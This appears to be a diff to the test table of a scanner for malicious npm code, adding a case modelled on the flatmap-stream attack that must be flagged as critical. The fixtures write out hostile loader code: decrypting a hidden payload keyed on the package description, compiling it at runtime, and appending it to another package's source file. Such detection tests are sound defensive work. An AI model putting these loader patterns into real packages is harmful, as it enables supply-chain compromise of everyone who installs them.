@@ -12,6 +12,11 @@ ruleTable("targeted-payload", {
       code: "var r = require, t = process; var o = t.env.npm_package_description; var u = r('crypto').createDecipher('aes256', o), a = u.update(n[0], 'hex', 'utf8'); var f = new module.constructor; f._compile(a, '');",
       atLeast: "critical",
     },
+    {
+      name: "decrypted payload appended to another package's source (flatmap-stream's first stage)",
+      code: "throw 0; module.exports = function (e) { var t = process.env.npm_package_description, r = require('fs'), i = './node_modules/@scope/lib/core/decoder.js', c = r.readFileSync(i, 'utf8'), o = require('crypto').createDecipher('aes256', t), s = o.update(e, 'hex', 'utf8'); s += o.final('utf8'); r.writeFileSync(i, c + s, 'utf8'); };",
+      atLeast: "critical",
+    },
   ],
   pass: [
     { name: "decrypting a config file", code: "const crypto = require('crypto'); const d = crypto.createDecipheriv('aes-256-gcm', key, iv); const out = d.update(buf);" },
